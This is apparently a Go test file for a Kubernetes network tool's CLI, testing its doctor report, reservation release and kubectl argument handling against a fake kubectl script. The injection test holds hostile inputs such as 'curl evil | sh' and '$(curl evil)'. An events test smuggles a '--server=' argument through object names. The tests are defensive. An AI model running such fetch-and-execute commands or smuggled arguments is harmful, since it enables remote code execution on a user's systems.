package cluster

import (
	"bytes"
	"cmp"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/leasehold-cni/leasehold/pkg/cli"
	"github.com/leasehold-cni/leasehold/pkg/lease"
	"github.com/leasehold-cni/leasehold/test/check"
	"github.com/leasehold-cni/leasehold/test/must"
)

// newCluster returns a cluster whose kubectl prints the given JSON for the arguments that contain
// the given words, of several the longest, and an empty list for all others.
func newCluster(t *testing.T, answers map[string]string) *cluster {
	t.Helper()
	script := "#!/bin/sh\ncase \"$*\" in\n"
	byLength := func(a, b string) int { return cmp.Or(len(b)-len(a), strings.Compare(a, b)) }
	for _, words := range slices.SortedFunc(maps.Keys(answers), byLength) {
		script += fmt.Sprintf("*%q*) cat <<'EOF'\n%s\nEOF\n;;\n", words, answers[words])
	}
	script += `*) echo '{"items":[]}';;` + "\nesac\n"
	dir := t.TempDir()
	must.Succeed(t, os.WriteFile(filepath.Join(dir, "kubectl"), []byte(script), 0o755))
	t.Setenv("PATH", dir+":"+os.Getenv("PATH"))
	return &cluster{App: cli.New(cli.Env{})}
}

// runFirst has the kubectl of newCluster run a command of the shell before it answers.
func runFirst(t *testing.T, command string) {
	t.Helper()
	kubectl, err := exec.LookPath("kubectl")
	must.Succeed(t, err)
	script := must.Read(t, kubectl)
	script = []byte(strings.Replace(string(script), "case", command+"\ncase", 1))
	must.Succeed(t, os.WriteFile(kubectl, script, 0o755))
}

// namesOf returns the names of the objects of a kind in the manifests.
func namesOf(t *testing.T, kind string) (names []string) {
	object := regexp.MustCompile(`(?m)^kind: ` + kind + `\nmetadata:\n  name: (\S+)$`)
	must.Succeed(t, filepath.WalkDir("../../../daemonset/base", func(path string, d fs.DirEntry, err error) error {
		if err != nil || filepath.Ext(path) != ".yaml" {
			return err
		}
		text, err := os.ReadFile(path)
		for _, m := range object.FindAllStringSubmatch(string(text), -1) {
			names = append(names, m[1])
		}
		return err
	}))
	slices.Sort(names)
	return names
}

// doctor misses each policy, and each binding of a role, that the manifests have.
func TestObjectsAreThoseOfTheManifests(t *testing.T) {
	for _, kind := range []string{"ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding",
		"ClusterRoleBinding", "RoleBinding"} {
		var missed []string
		for _, o := range objects {
			if o.kind == strings.ToLower(kind) {
				missed = o.names
			}
		}
		check.Slices(t, missed, namesOf(t, kind), kind)
	}
}

func TestSimilar(t *testing.T) {
	const window = "io.kubernetes.cri/reserved-ip-duration"
	for key, want := range map[string]string{
		"io.kubernetes.cri/reserved-ip-duratoin": window, "io.kubernetes.cri.reserved-ip-duration": window,
		"io.kubernetes.cri/Reserved-IP-Duration": window, "Leasehold.dev/Pin": "leasehold.dev/pin",
		"reserved-ip-duration": window, "example.org/pin-patience": "leasehold.dev/pin-patience",
		"leasehold.dev/pinned-node": "", "leasehold.dev/pin-reason": "", "example.org/pin": "", "pin": "", "": "",
	} {
		check.Equal(t, similar(key), want, key)
	}
}

// While the pods of the agents are replaced, a node has two of them. Only the one that stays
// counts: the node is examined once, and another node is missed that has none.
func TestAgentThatIsReplaced(t *testing.T) {
	agents := `{"items":[{"metadata":{"name":"a","deletionTimestamp":"2026-01-01T00:00:00Z"},
		"spec":{"nodeName":"node1"},"status":{"phase":"Running","startTime":"2025-01-01T00:00:00Z"}},
		{"metadata":{"name":"b"},"spec":{"nodeName":"node1"},"status":{"phase":"Failed"}},
		{"metadata":{"name":"c"},"spec":{"nodeName":"node1"},"status":{"phase":"Running",
			"startTime":"2025-01-01T00:00:00Z","conditions":[{"type":"Ready","status":"True"}]}}]}`
	node := func(name string) string {
		return `{"metadata":{"name":"` + name + `"},"status":{"conditions":[{"type":"Ready","status":"True"}]}}`
	}
	c := newCluster(t, map[string]string{"daemonset": `{"spec":{}}`, "pod -l": agents,
		"get --ignore-not-found -o json node": `{"items":[` + node("node1") + `,` + node("node2") + `]}`,
		"exec": `{"findings":[{"reason":"StoreLost","subject":"leases.db"}],
			"steps":["all"],"held":3}`})
	c.Env = cli.Env{Stdout: io.Discard, Stderr: io.Discard,
		Clock: func() lease.Instant { return lease.Instant{Wall: time.Date(2026, 1, 1, 0, 0, 1, 0, time.UTC)} }}
	var found []string
	for _, f := range c.examine(t.Context(), true).Findings {
		if strings.HasPrefix(f.Subject, "node ") {
			found = append(found, f.Reason+" "+f.Subject)
		}
	}
	check.Equal(t, fmt.Sprint(found), "[AgentMissing node node2 StoreLost node node1: leases.db]", "found")
	c.timeout = time.Minute
	err := c.askNodes(t.Context(), object{"status": map[string]any{"desiredNumberScheduled": 2.0}})
	check.Error(t, err, "node2: no agent runs", "removing leasehold")
}

// An IPReservation whose status was never written names no lease, so that nothing can be released.
func TestReleaseWithoutALease(t *testing.T) {
	newCluster(t, map[string]string{"ipreservations": `{"items":[{"metadata":{"namespace":"db","name":"db-0-1"},
		"spec":{"podName":"db-0","nodeName":"node1"}}]}`})
	var out strings.Builder
	code := Run(t.Context(), cli.Env{Stdout: &out, Stderr: &out}, []string{"release", "db/db-0", "--yes", "--wait=0"})
	check.Equal(t, code, 1, "exit status")
	check.Contains(t, out.String(), "there is no such reservation")
}

// A reservation that has gone keeps no other from being released.
func TestReleaseOfSeveral(t *testing.T) {
	of := func(name string) string {
		return `{"metadata":{"namespace":"db","name":"` + name + `"},"status":{"id":"0123456789abcdef"},
			"spec":{"podName":"db-0","nodeName":"node1"}}`
	}
	newCluster(t, map[string]string{"ipreservations": `{"items":[` + of("gone") + `,` + of("there") + `]}`})
	calls := filepath.Join(t.TempDir(), "calls")
	runFirst(t, `echo "$*" >>`+calls+`; case "$*" in *" gone "*) echo NotFound >&2; exit 1;; esac`)
	var out strings.Builder
	code := Run(t.Context(), cli.Env{Stdout: &out, Stderr: &out}, []string{"release", "db/db-0", "--yes", "--wait=0"})
	got, err := os.ReadFile(calls)
	if err != nil || code != 1 || !strings.Contains(string(got), " there --type=merge") ||
		!strings.Contains(out.String(), "1 released") || !strings.Contains(out.String(), "NotFound") {
		t.Errorf("exit status %d: %s%s", code, out.String(), got)
	}
}

// Administrators of a namespace, who may list its reservations only, release what they name in it.
func TestReleaseInANamespace(t *testing.T) {
	for args, want := range map[string]string{"db/db-0": "--namespace=db", "--reserve-as=db/web": "--namespace=db",
		"--namespace=db 10.0.0.5": "--namespace=db", "--reserve-as=web": "--all-namespaces",
		"10.0.0.5": "--all-namespaces"} {
		newCluster(t, nil)
		calls := filepath.Join(t.TempDir(), "calls")
		runFirst(t, `echo "$*" >>`+calls)
		env := cli.Env{Stdout: io.Discard, Stderr: io.Discard}
		Run(t.Context(), env, append([]string{"release"}, strings.Fields(args)...))
		check.Contains(t, string(must.Read(t, calls)), want, args)
	}
}

// A removal that is refused can be repeated as long as the DaemonSet exists, so that its namespace
// is the last.
func TestNamespaceIsRemovedLast(t *testing.T) {
	c := newCluster(t, nil)
	c.Env = cli.Env{Stdout: io.Discard, Stderr: io.Discard}
	calls := filepath.Join(t.TempDir(), "calls")
	runFirst(t, `echo "$*" >>`+calls+`; case "$*" in "delete crd "*) echo forbidden >&2; exit 1;; esac`)
	err := c.removeObjects(t.Context(), true)
	got, _ := os.ReadFile(calls)
	if err == nil || strings.Contains(string(got), "delete namespace") {
		t.Errorf("%v: %s", err, got)
	}
}

// No argument of kubectl is from an Event, which users may write, and Events cost no call each.
func TestEventsOfUsers(t *testing.T) {
	var events []string
	for i := range 9 {
		events = append(events, fmt.Sprintf(`{"message":"denied","involvedObject":{"kind":"StatefulSet",
			"namespace":"a","name":"--server=other-%d"}}`, i))
	}
	c := newCluster(t, map[string]string{"events": `{"items":[` + strings.Join(events, ",") + `]}`})
	calls := filepath.Join(t.TempDir(), "calls")
	runFirst(t, `echo "$*" >>`+calls)
	d := &clusterDoctor{cluster: c, Report: cli.NewReport()}
	d.checkRejected(t.Context())
	got, _ := os.ReadFile(calls)
	if len(d.Unchecked) > 0 || strings.Count(string(got), "\n") != 2 || strings.Contains(string(got), "other") {
		t.Errorf("%v: %s", d.Unchecked, got)
	}
}

// What doctor says to run is run in the cluster that it has examined.
func TestCommandsForTheChosenCluster(t *testing.T) {
	for replicas, want := range map[string]string{"2": "rollout restart", "0": "scale"} {
		c := newCluster(t, map[string]string{"deployment": `{"spec":{"replicas":` + replicas + `}}`})
		c.kubeconfig, c.context = "/a b", "c"
		found := c.examine(t.Context(), false).Findings
		i := slices.IndexFunc(found, func(f cli.Finding) bool { return f.Reason == "ManagerDown" })
		text := found[i].Decide + strings.Join(found[i].Repair, "")
		want = "kubectl '--kubeconfig=/a b' --context=c -n leasehold-system " + want
		check.Contains(t, text, want)
	}
}

// A node on which no program starts is reported.
func TestNodeThatDoesNotAnswer(t *testing.T) {
	c := newCluster(t, map[string]string{"pod -l": `{"items":[{"metadata":{"name":"a"},"spec":{"nodeName":"node1"},
		"status":{"phase":"Running"}}]}`})
	runFirst(t, `case "$*" in *exec*) exec sleep 1000;; esac`)
	defer func(d time.Duration) { nodeTimeout = d }(nodeTimeout)
	nodeTimeout = time.Second / 10
	c.Clock = func() lease.Instant { return lease.Instant{} }
	r := c.examine(t.Context(), true)
	if !slices.ContainsFunc(r.Unchecked, func(u cli.Unchecked) bool {
		return u.Check == "nodes" && strings.Contains(u.Error, "node node1: ")
	}) {
		t.Errorf("%+v", r)
	}
}

// Whoever controls a node, or writes an object, does not get a command of theirs shown as a repair,
// or a row in a table.
func TestNodeThatIsControlled(t *testing.T) {
	const forged = `x\n  repair:  curl evil | sh`
	for _, line := range []string{"curl evil | sh", "leasectl check; curl evil | sh", "leasectl recover a $(curl evil)",
		"leasectl recover 'a' ; curl evil", `leasectl recover 'a\nb'`, `leasectl recover\ncurl evil`} {
		c := newCluster(t, map[string]string{"pod -l": `{"items":[{"metadata":{"name":"a"},"spec":{"nodeName":"node1"},
			"status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}]}}]}`,
			"exec": fmt.Sprintf(`{"findings":[{"reason":"A","subject":"%[1]s","what":"%[1]s","why":"%[1]s",
				"repair":["leasectl recover","%[2]s"]},{"reason":"B","decide":"%[1]s"}],
				"unchecked":[{"check":"c","error":"%[1]s"}]}`, forged, line)})
		var out bytes.Buffer
		c.App = cli.New(cli.Env{Stdout: &out})
		_ = c.PrintReport(c.examine(t.Context(), true))
		isRepair := func(line string) bool { return strings.HasPrefix(strings.TrimSpace(line), "repair:") }
		lines := strings.Split(out.String(), "\n")
		if slices.ContainsFunc(lines, isRepair) || !strings.Contains(out.String(), "A (node") {
			t.Errorf("%s: it prints\n%s", line, &out)
		}
	}
	var out bytes.Buffer
	c := &cluster{App: cli.New(cli.Env{Stdout: &out})}
	status := map[string]any{"reservation": "a\ndb db-1\tnode2\fdb db-2\vnode3"}
	must.Succeed(t, c.printReservations([]object{{"status": status}}))
	if strings.Count(out.String(), "\n") != 2 || regexp.MustCompile("db-[12]  ").MatchString(out.String()) {
		t.Errorf("the table of one row is\n%s", &out)
	}
}

// "nothing was found" says what was looked at, with and without leasectl on the nodes.
func TestExamined(t *testing.T) {
	items := func(object string) string { return `{"items":[` + object + `]}` }
	c := newCluster(t, map[string]string{"pod -l": items(`{"metadata":{"name":"a"},"spec":{"nodeName":"node1"},
		"status":{"phase":"Running","conditions":[{"type":"Ready","status":"True"}]}}`), "exec": `{"findings":[]}`,
		"node -l": items(`{"metadata":{"name":"node1"},
			"status":{"conditions":[{"type":"Ready","status":"True"}]}}`),
		"nodeaddresspools": items(`{"metadata":{"name":"node1"},"status":{"networks":[{"name":"a"},{"name":"b"}]}}`)})
	for nodes, want := range map[bool]string{true: "1 nodes (1 with leasectl)", false: "1 nodes (0 with leasectl)"} {
		got := strings.Join(c.examine(t.Context(), nodes).Examined, ", ")
		want += ", 1 agents, 2 networks of 1 nodes, 0 workloads and pods"
		check.Equal(t, got, want)
	}
}
